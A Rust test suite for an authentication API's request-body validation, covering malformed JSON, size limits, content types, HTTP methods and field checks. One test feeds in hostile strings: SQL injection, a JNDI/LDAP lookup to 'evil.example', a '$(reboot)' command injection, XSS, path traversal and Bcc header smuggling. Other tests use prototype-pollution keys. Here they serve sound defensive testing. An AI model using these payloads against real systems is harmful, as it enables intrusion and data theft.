//! What no honest app sends, to every operation that takes a body: always a clear error of the contract.

use functions::OPERATIONS;
use functions::describe::openapi;
use harness::{Answer, App, Call, PASSWORD, REDIRECT, snapshot};
use serde_json::{Map, Value, json};
use shared::route::{Auth, Method, Route};

const MAX_BODY_BYTES: usize = 64 * 1024;
const SIGN_UP: &str = "/agnost/auth/signup-email";

/// An operation that takes JSON, as the OpenAPI document describes it.
struct Target {
    route: &'static Route,
    path: &'static str,
    /// Every field of its body, with its schema.
    fields: Map<String, Value>,
    required: Vec<String>,
}

/// Every operation of the table that takes a body. (The OAuth callback, which is public, takes a form as well.)
fn targets() -> Vec<Target> {
    let document = openapi();
    let routes = OPERATIONS.iter().map(|operation| operation.route);
    let posts =
        routes.filter(|route| route.methods.contains(&Method::Post) && route.auth != Auth::Public);
    let targets: Vec<Target> = posts
        .map(|route| {
            let path = route.paths[0];
            let body = &document["paths"][path]["post"]["requestBody"];
            let schema = &body["content"]["application/json"]["schema"];
            let required = schema["required"].as_array().into_iter().flatten();
            let mut required: Vec<String> = required
                .filter_map(Value::as_str)
                .map(str::to_owned)
                .collect();
            required.sort();
            Target {
                route,
                path,
                fields: schema["properties"]
                    .as_object()
                    .cloned()
                    .unwrap_or_default(),
                required,
            }
        })
        .collect();
    assert!(targets.len() >= 3);
    targets
}

impl Target {
    /// A request that is good but for its body; with a session of its own, which it may end.
    async fn call<'a>(&self, app: &'a App) -> Call<'a> {
        self.call_by(app, "POST").await
    }

    async fn call_by<'a>(&self, app: &'a App, method: &str) -> Call<'a> {
        let call = app.call(method, self.path);
        if self.route.auth != Auth::KeyAndSession {
            return call;
        }
        let email = app.email("session");
        app.verified_user(&email).await;
        call.session(&app.session(&email).await)
    }

    /// A body that is good as such, about a person who does not exist.
    fn good(&self, app: &App) -> Map<String, Value> {
        let value = |name: &String| match self.type_of(name) {
            "Email" => json!(app.email("nobody")),
            "Password" | "NewPassword" => json!(PASSWORD),
            _ if name == "redirectURL" => json!(REDIRECT),
            _ => json!("x"),
        };
        self.required
            .iter()
            .map(|name| (name.clone(), value(name)))
            .collect()
    }

    /// The name of a field's type.
    fn type_of(&self, name: &str) -> &str {
        let schema = &self.fields[name];
        let reference = [&schema["$ref"], &schema["anyOf"][0]["$ref"]];
        let reference = reference
            .into_iter()
            .find_map(Value::as_str)
            .unwrap_or_default();
        reference.rsplit('/').next().unwrap_or_default()
    }

    /// The fields of the body that a validation error blames. (These tests leave the query empty.)
    #[track_caller]
    fn blamed(&self, answer: &Answer) -> Vec<String> {
        let mut names = answer.expect_error(400, "validation_error").blamed();
        names.retain(|name| !self.route.query.contains(&name.as_str()));
        names
    }

    /// The fields of a type.
    fn fields_of(&self, type_name: &str) -> Vec<&String> {
        let same = |name: &&String| self.type_of(name) == type_name;
        self.fields.keys().filter(same).collect()
    }
}

/// Fails the test unless these fields are blamed, and perhaps others.
#[track_caller]
fn expect_blamed(answer: &Answer, names: &[&str]) {
    let blamed = answer.expect_error(400, "validation_error").blamed();
    for name in names {
        assert!(
            blamed.iter().any(|blamed| blamed == name),
            "{name}: {blamed:?}"
        );
    }
}

/// Fails the test unless a caller is told, in one of the ways of the contract, that it is his fault.
#[track_caller]
fn expect_refused(answer: &Answer) {
    assert!((400..500).contains(&answer.status), "{answer:?}");
    answer.expect_error(answer.status, &answer.code());
    assert!(!answer.code().is_empty(), "{answer:?}");
}

/// Whether a gateway answered for the functions: an event holds text, and what is none it may not pass on
/// (`cargo lambda watch` answers a 500 of its own).
fn is_a_gateways_own(app: &App, answer: &Answer) -> bool {
    app.laptop.is_none() && answer.status >= 400 && answer.code().is_empty()
}

/// Fails the test unless nobody holds the address, and nobody was written to.
async fn expect_nothing_happened(app: &App, email: &str) {
    assert!(app.mails(email).await.is_empty());
    app.resend(email)
        .await
        .expect_error(401, "invalid_credentials");
}

#[tokio::test]
async fn each_error_about_a_body_says_what_is_wrong_with_it() {
    let app = App::start().await;
    let post = || app.call("POST", SIGN_UP);
    let broken = post().body("application/json", "{").await;
    insta::assert_snapshot!("broken_json", snapshot::of(&app, &broken));
    let form = post()
        .body("application/x-www-form-urlencoded", "a=b")
        .await;
    insta::assert_snapshot!("another_type", snapshot::of(&app, &form));
    let large = post().untyped(" ".repeat(MAX_BODY_BYTES + 1)).await;
    insta::assert_snapshot!("too_large", snapshot::of(&app, &large));
}

// What is no JSON object

#[tokio::test]
async fn a_body_that_is_no_json_object_is_refused() {
    let app = App::start().await;
    let deep = format!("{}1{}", r#"{"a":"#.repeat(200), "}".repeat(200));
    let deep_lists = format!(
        r#"{{"userData":{{"a":{}{}}}}}"#,
        "[".repeat(200),
        "]".repeat(200)
    );
    let unclosed = "[".repeat(MAX_BODY_BYTES);
    let bodies = [
        "[]",
        r#"[{"email":"ada@example.com"}]"#,
        r#""text""#,
        "null",
        "true",
        "42",
        " ",
        "\0",
        "{",
        "}",
        r#"{"email":"ada@example.com""#,
        r#"{"email":"ada@exam"#,
        r#"{"email":}"#,
        r#"{"email":"ada@example.com",}"#,
        r#"{"email":"ada@example.com"}{}"#,
        r#"{"email":"ada@example.com"} x"#,
        "{'email':'ada@example.com'}",
        "{email:1}",
        r#"{/**/"email":1}"#,
        r#"{"email":NaN}"#,
        r#"{"email":1e999}"#,
        r#"{"email":01}"#,
        r#"{"email":"\x41"}"#,
        "\u{feff}{}",
        "email=ada@example.com&password=x",
        "<email>ada@example.com</email>",
        deep.as_str(),
        deep_lists.as_str(),
        unclosed.as_str(),
    ];
    for target in targets() {
        for body in bodies {
            let answer = target
                .call(&app)
                .await
                .body("application/json", body.to_owned())
                .await;
            answer.expect_error(400, "invalid_request_body_syntax");
        }
    }
}

#[tokio::test]
async fn a_name_that_stands_twice_is_refused_at_any_depth() {
    let app = App::start().await;
    let email = app.email("ada");
    for body in [
        format!(r#"{{"email":"{email}","email":"{email}","password":"{PASSWORD}"}}"#),
        format!(r#"{{"email":"{email}","\u0065mail":"eve@example.com","password":"{PASSWORD}"}}"#),
        format!(r#"{{"email":"{email}","password":"{PASSWORD}","password":null}}"#),
        format!(r#"{{"email":"{email}","password":"{PASSWORD}","x":{{"a":1,"a":1}}}}"#),
        format!(
            r#"{{"email":"{email}","password":"{PASSWORD}","userData":{{"a":[{{"b":1,"b":2}}]}}}}"#
        ),
    ] {
        for target in targets() {
            let answer = target
                .call(&app)
                .await
                .body("application/json", body.clone())
                .await;
            answer.expect_error(400, "invalid_request_body_syntax");
        }
    }
    expect_nothing_happened(&app, &email).await;
}

#[tokio::test]
async fn text_that_is_no_unicode_is_refused() {
    let app = App::start().await;
    for target in targets() {
        for escaped in [
            r"\ud800",
            r"\udc00",
            r"\udc00\ud800",
            r"\ud800x",
            r"\ud83d\ud83d",
        ] {
            for body in [
                format!(r#"{{"email":"{escaped}"}}"#),
                format!(r#"{{"{escaped}":1}}"#),
            ] {
                let answer = target.call(&app).await.body("application/json", body).await;
                answer.expect_error(400, "invalid_request_body_syntax");
            }
        }
        for bytes in [
            &b"\xff"[..],
            b"\xc0\xaf",
            b"\xed\xa0\x80",
            b"\xf4\x90\x80\x80",
            b"\xe2\x82",
        ] {
            let body = [b"{\"", bytes, b"\":1}"].concat();
            let answer = target.call(&app).await.body("application/json", body).await;
            if is_a_gateways_own(&app, &answer) {
                continue;
            }
            expect_refused(&answer);
            // A gateway may put replacement characters in their place.
            let known = ["invalid_request_body_syntax", "validation_error"];
            assert!(known.contains(&answer.code().as_str()), "{answer:?}");
            assert!(
                app.laptop.is_none() || answer.code() == known[0],
                "{answer:?}"
            );
        }
        let utf_16: Vec<u8> = "{\"a\":1}"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let answer = target
            .call(&app)
            .await
            .body("application/json", utf_16)
            .await;
        answer.expect_error(400, "invalid_request_body_syntax");
    }
}

#[tokio::test]
async fn a_compressed_body_is_not_unpacked() {
    let app = App::start().await;
    // `{}`, by gzip.
    let packed: &[u8] = b"\x1f\x8b\x08\0\0\0\0\0\0\xff\xab\xae\x05\0\x43\xbf\xa6\xa3\x02\0\0\0";
    for target in targets() {
        let call = target.call(&app).await.header("content-encoding", "gzip");
        let answer = call.body("application/json", packed).await;
        if !is_a_gateways_own(&app, &answer) {
            answer.expect_error(400, "invalid_request_body_syntax");
        }
    }
}

#[tokio::test]
async fn control_characters_must_be_escaped() {
    let app = App::start().await;
    for target in targets() {
        for raw in ["\0", "\n", "\r", "\t", "\u{1f}"] {
            for body in [
                format!("{{\"email\":\"ada{raw}@example.com\"}}"),
                format!("{{\"a{raw}\":1}}"),
            ] {
                let answer = target.call(&app).await.body("application/json", body).await;
                answer.expect_error(400, "invalid_request_body_syntax");
            }
        }
    }
}

// Fields

#[tokio::test]
async fn without_a_body_every_required_field_is_named() {
    let app = App::start().await;
    for target in targets() {
        let answers = [
            target.call(&app).await.send().await,
            target.call(&app).await.untyped("").await,
            target.call(&app).await.body("application/json", "").await,
            target.call(&app).await.body("application/json", "{}").await,
        ];
        for answer in answers {
            if target.required.is_empty() {
                assert!(answer.status < 500, "{}: {answer:?}", target.path);
                continue;
            }
            let blamed = target.blamed(&answer);
            assert_eq!(blamed, target.required, "{}", target.path);
        }
    }
}

#[tokio::test]
async fn fields_in_the_query_stand_for_none_in_the_body() {
    let app = App::start().await;
    for target in targets()
        .iter()
        .filter(|target| !target.required.is_empty())
    {
        let good = target.good(&app);
        let pairs = good
            .iter()
            .map(|(name, value)| (name.as_str(), value.as_str().unwrap_or_default()));
        let mut query = url::form_urlencoded::Serializer::new(String::new());
        let query = query.extend_pairs(pairs).finish();
        let call = app.call("POST", &format!("{}?{query}", target.path));
        let answer = call.body("application/json", "{}").await;
        if target.route.auth == Auth::Key {
            let blamed = target.blamed(&answer);
            assert_eq!(blamed, target.required, "{}", target.path);
        }
        expect_refused(&answer);
    }
}

#[tokio::test]
async fn unknown_fields_are_refused_and_named_all_at_once() {
    let app = App::start().await;
    let unknown = [
        "colour",
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "",
        " email",
        "EMAIL",
        "email\0",
        "e\u{301}mail",
        "email[]",
        "$where",
        "_id",
        "pk",
    ];
    for target in targets() {
        let mut body = target.good(&app);
        body.extend(unknown.map(|name| (name.to_owned(), json!({ "isAdmin": true }))));
        let answer = target.call(&app).await.json(&body.into()).await;
        expect_blamed(&answer, &unknown);
        assert_eq!(target.blamed(&answer).len(), unknown.len(), "{answer:?}");
    }
}

#[tokio::test]
async fn a_long_name_is_not_repeated_at_length() {
    let app = App::start().await;
    for target in targets() {
        let mut body = target.good(&app);
        body.insert("n".repeat(60_000), json!(1));
        let answer = target.call(&app).await.json(&body.into()).await;
        answer.expect_error(400, "validation_error");
        assert!(answer.body.len() < 1_000, "{}", answer.body.len());
    }
}

#[tokio::test]
async fn fields_of_another_type_are_named_all_at_once() {
    let app = App::start().await;
    for target in targets() {
        for wrong in [
            json!(1),
            json!(-0.5),
            json!(true),
            json!([]),
            json!([["x"]]),
        ] {
            let body: Map<String, Value> = target
                .fields
                .keys()
                .map(|name| (name.clone(), wrong.clone()))
                .collect();
            let mut names: Vec<&String> = target.fields.keys().collect();
            names.sort();
            let answer = target.call(&app).await.json(&body.into()).await;
            if names.is_empty() {
                assert!(answer.status < 500, "{}: {answer:?}", target.path);
                continue;
            }
            let blamed = target.blamed(&answer);
            assert_eq!(
                blamed.iter().collect::<Vec<_>>(),
                names,
                "{}: {wrong}",
                target.path
            );
        }
    }
}

#[tokio::test]
async fn what_is_no_address_is_refused() {
    let app = App::start().await;
    let long_local = format!("{}@example.com", "a".repeat(65));
    let long_label = format!("ada@{}.com", "b".repeat(64));
    let of_300 = format!(
        "{}@{}com",
        "a".repeat(60),
        format!("{}.", "b".repeat(58)).repeat(4)
    );
    let of_50_000 = format!("{}@example.com", "a".repeat(50_000));
    let addresses = [
        "",
        " ",
        "@",
        "ada",
        "ada@",
        "@example.com",
        "ada@@example.com",
        "ada@example..com",
        "ada@.example.com",
        "ada@example.com.",
        "ada@-example.com",
        "ada@exa_mple.com",
        "a b@example.com",
        "ada@exa mple.com",
        "ada@example.com\n",
        "ada@example.com\r\nBcc: eve@example.com",
        "ada\r\n@example.com",
        "ada@example.com,eve@example.com",
        "ada@example.com;eve@example.com",
        "ada@example.com eve@example.com",
        "ada@example.com\0",
        "ada\0@example.com",
        "ada@exa\0mple.com",
        "\"ada\"@example.com",
        "\"ada@example.com\"",
        "\"a b\"@example.com",
        "<ada@example.com>",
        "Ada <ada@example.com>",
        "mailto:ada@example.com",
        "ada(comment)@example.com",
        "ada@127.0.0.1",
        "ada@[127.0.0.1]",
        "ada@[IPv6:::1]",
        "ada@0x7f000001.1",
        "ada@example.com:25",
        "ada@example.com/evil",
        "ada@example.com?bcc=eve@example.com",
        // Letters that look like others, or become others in lower case.
        "\u{430}da@example.com",
        "\u{ff41}da@example.com",
        "\u{131}da@example.com",
        "\u{212a}ate@example.com",
        "ada\u{200b}@example.com",
        "ada\u{202e}@example.com",
        "a\u{301}da@example.com",
        "🦀@example.com",
        "ada＠example.com",
        "ada@exam\u{200b}ple\u{ad}.c om",
        "ada@xn--.example",
        "ada@xn--a\u{fc}.example",
        long_local.as_str(),
        long_label.as_str(),
        of_300.as_str(),
        of_50_000.as_str(),
    ];
    for target in targets() {
        for field in target.fields_of("Email") {
            for address in addresses {
                let mut body = target.good(&app);
                body.insert(field.clone(), json!(address));
                let answer = target.call(&app).await.json(&body.into()).await;
                let blamed = target.blamed(&answer);
                assert_eq!(blamed, [field.as_str()], "{}: {address:?}", target.path);
                assert!(!answer.body.contains("Bcc"), "{answer:?}");
            }
        }
    }
}

#[tokio::test]
async fn addresses_of_look_alike_domains_are_not_one_account() {
    let app = App::start().await;
    let local = app.email("ada").replace("@example.com", "");
    // The first holds a Cyrillic letter.
    let look_alike = format!("{local}@ex\u{430}mple.com");
    let answer = app.sign_up(&look_alike).await;
    let address = answer.expect_ok().json()["user"]["email"].clone();
    assert!(
        address
            .as_str()
            .is_some_and(|address| address.contains("@xn--")),
        "{address}"
    );
    app.sign_up(&format!("{local}@example.com"))
        .await
        .expect_ok();
}

#[tokio::test]
async fn what_can_be_no_new_password_is_refused() {
    let app = App::start().await;
    for target in targets() {
        let passwords = [
            target.fields_of("Password"),
            target.fields_of("NewPassword"),
        ]
        .concat();
        for field in passwords {
            for password in [
                String::new(),
                "short".to_owned(),
                "x".repeat(129),
                "\u{301}".repeat(60_000 / 2),
            ] {
                let mut body = target.good(&app);
                body.insert(field.clone(), json!(password));
                let answer = target.call(&app).await.json(&body.into()).await;
                let blamed = target.blamed(&answer);
                assert_eq!(blamed, [field.as_str()], "{}", target.path);
            }
        }
    }
}

#[tokio::test]
async fn names_that_pollute_prototypes_are_refused_in_user_data_at_any_depth() {
    let app = App::start().await;
    let email = app.email("ada");
    for data in [
        r#"{"__proto__":{"isAdmin":true}}"#,
        r#"{"\u005f_proto__":{"isAdmin":true}}"#,
        r#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
        r#"{"a":{"b":[[{"__proto__":1}]]}}"#,
        r#"{"a":[{"constructor":null}]}"#,
    ] {
        let body = format!(
            r#"{{"email":"{email}","password":"{PASSWORD}","redirectURL":"{REDIRECT}","userData":{data}}}"#
        );
        let answer = app
            .call("POST", SIGN_UP)
            .body("application/json", body)
            .await;
        assert_eq!(
            answer.expect_error(400, "validation_error").blamed(),
            ["userData"],
            "{data}"
        );
    }
    expect_nothing_happened(&app, &email).await;
}

#[tokio::test]
async fn an_escaped_nul_is_refused_where_it_could_do_harm() {
    let app = App::start().await;
    let email = app.email("ada");
    let good = json!({ "email": email, "password": PASSWORD, "redirectURL": REDIRECT });
    for (field, value, status, code) in [
        (
            "email",
            json!(format!("{email}\0")),
            400,
            "validation_error",
        ),
        (
            "userData",
            json!({ "name": "Ada\0" }),
            400,
            "validation_error",
        ),
        ("userData", json!({ "a\0": 1 }), 400, "validation_error"),
        ("userData", json!({ "a": ["\0"] }), 400, "validation_error"),
        (
            "redirectURL",
            json!(format!("{REDIRECT}\0")),
            400,
            "invalid_redirect_url",
        ),
        ("redirectURL", json!("\0"), 400, "invalid_redirect_url"),
    ] {
        let mut body = good.clone();
        body[field] = value;
        let answer = app.call("POST", SIGN_UP).json(&body).await;
        answer.expect_error(status, code);
    }
    expect_nothing_happened(&app, &email).await;
    // In a password it is a character as any other, and what is not a known base URL is ignored.
    let mut body = good;
    body["password"] = json!("a\0 password");
    body["baseURL"] = json!("https://auth.example.com\0");
    app.call("POST", SIGN_UP).json(&body).await.expect_ok();
    assert!(app.link(&email).await.starts_with(&app.url));
    app.sign_in(&email, "a\0 password")
        .await
        .expect_error(401, "email_not_verified");
}

#[tokio::test]
async fn text_that_means_something_to_other_programs_means_nothing() {
    let app = App::start().await;
    for text in [
        "' OR '1'='1' --",
        "\"; DROP TABLE users; --",
        "{{user.email}}{{token.confirmationURL}}",
        "${jndi:ldap://evil.example/a}",
        "$(reboot)`reboot`",
        "<img src=x onerror=alert(1)>",
        "%00%0d%0aBcc:eve@example.com",
        ":old attribute_exists(pk)",
        "../../../etc/passwd",
        "null",
        "user#1",
    ] {
        let email = app.email("ada");
        let data = json!({ "name": text, "profilePicture": text, "note": text, text: text });
        let body = json!({ "email": email, "password": text.repeat(2), "redirectURL": REDIRECT, "userData": data });
        let answer = app.call("POST", SIGN_UP).json(&body).await;
        let user = answer.expect_ok().json()["user"].clone();
        for name in ["name", "profilePicture", "note", text] {
            assert_eq!(user[name], text);
        }
        app.follow(&app.link(&email).await).await;
        let signed_in = app.sign_in(&email, &text.repeat(2)).await;
        assert_eq!(signed_in.expect_ok().json()["user"][text], text);
    }
}

// Size

#[tokio::test]
async fn a_body_of_64_kib_is_read_and_one_byte_more_is_not() {
    let app = App::start().await;
    let frame = json!({ "colour": "" }).to_string().len();
    let body = |bytes: usize| json!({ "colour": "x".repeat(bytes - frame) });
    for target in targets() {
        let answer = target.call(&app).await.json(&body(MAX_BODY_BYTES)).await;
        expect_blamed(&answer, &["colour"]);
        let answer = target
            .call(&app)
            .await
            .json(&body(MAX_BODY_BYTES + 1))
            .await;
        answer.expect_error(413, "request_body_size_too_large");
        // Whatever it holds.
        let spaces = " ".repeat(MAX_BODY_BYTES + 1);
        let answer = target
            .call(&app)
            .await
            .body("application/json", spaces)
            .await;
        answer.expect_error(413, "request_body_size_too_large");
    }
}

#[tokio::test]
async fn a_password_of_10_mb_is_not_even_looked_at() {
    let app = App::start().await;
    for target in targets() {
        let body = json!({ "email": "ada@example.com", "password": "x".repeat(10_000_000) });
        match target.call(&app).await.try_json(body.to_string()).await {
            Some(answer) if app.laptop.is_some() => {
                answer.expect_error(413, "request_body_size_too_large");
            }
            // A gateway in front may refuse first, in its own words.
            Some(answer) => assert!((400..500).contains(&answer.status), "{answer:?}"),
            None => assert!(app.laptop.is_none(), "no answer"),
        }
    }
    app.bare_call("GET", "/health").send().await.expect_ok();
}

// Content types

#[tokio::test]
async fn json_is_read_however_its_type_is_written_or_with_none() {
    let app = App::start().await;
    for target in targets() {
        for content_type in [
            "application/json",
            "application/json; charset=utf-8",
            "application/json;charset=UTF-8",
            "Application/JSON",
            "application/json ; charset=\"utf-8\"",
        ] {
            let answer = target
                .call(&app)
                .await
                .body(content_type, r#"{"colour":1}"#)
                .await;
            expect_blamed(&answer, &["colour"]);
        }
        let answer = target.call(&app).await.untyped(r#"{"colour":1}"#).await;
        expect_blamed(&answer, &["colour"]);
    }
}

#[tokio::test]
async fn a_body_of_any_other_type_is_refused() {
    let app = App::start().await;
    let email = app.email("ada");
    let good = json!({ "email": email, "password": PASSWORD, "redirectURL": REDIRECT }).to_string();
    let form = format!("email={email}&password=correct+horse+battery&redirectURL={REDIRECT}");
    let multipart = format!(
        "--x\r\nContent-Disposition: form-data; name=\"email\"\r\n\r\n{email}\r\n--x--\r\n"
    );
    for target in targets() {
        for (content_type, body) in [
            ("text/plain", good.as_str()),
            ("text/plain;charset=UTF-8", &good),
            ("application/x-www-form-urlencoded", &form),
            ("application/x-www-form-urlencoded", &good),
            ("multipart/form-data; boundary=x", &multipart),
            ("text/json", &good),
            ("text/html", &good),
            ("application/jsonp", &good),
            ("application/x-json", &good),
            ("application/json-patch+json", &good),
            ("application/problem+json", &good),
            ("application/octet-stream", &good),
            ("application/xml", "<email>ada@example.com</email>"),
            ("text/plain; application/json", &good),
            ("*/*", &good),
            ("json", &good),
        ] {
            let answer = target
                .call(&app)
                .await
                .body(content_type, body.to_owned())
                .await;
            answer.expect_error(415, "unsupported_media_type");
        }
    }
    expect_nothing_happened(&app, &email).await;
}

// Methods

#[tokio::test]
async fn with_another_method_nothing_happens() {
    let app = App::start().await;
    let email = app.email("ada");
    let known = app.email("known");
    app.sign_up(&known).await.expect_ok();
    for target in targets() {
        for method in ["GET", "HEAD", "PUT", "PATCH", "DELETE"] {
            if target
                .route
                .methods
                .iter()
                .any(|known| known.as_str() == method)
            {
                continue;
            }
            for address in [&email, &known] {
                let mut body = target.good(&app);
                for field in target.fields_of("Email") {
                    body.insert(field.clone(), json!(address));
                }
                for header in [
                    "x-client",
                    "x-http-method-override",
                    "x-http-method",
                    "x-method-override",
                ] {
                    let call = target.call_by(&app, method).await.header(header, "POST");
                    let answer = call.json(&Value::Object(body.clone())).await;
                    assert!((400..500).contains(&answer.status), "{method}: {answer:?}");
                    assert_eq!(answer.header("set-cookie"), "");
                    if app.laptop.is_some() && method != "HEAD" {
                        answer.expect_error(405, "method_not_allowed");
                        assert_eq!(answer.header("allow"), "POST");
                    }
                }
            }
        }
    }
    expect_nothing_happened(&app, &email).await;
    assert_eq!(app.mails(&known).await.len(), 1);
}
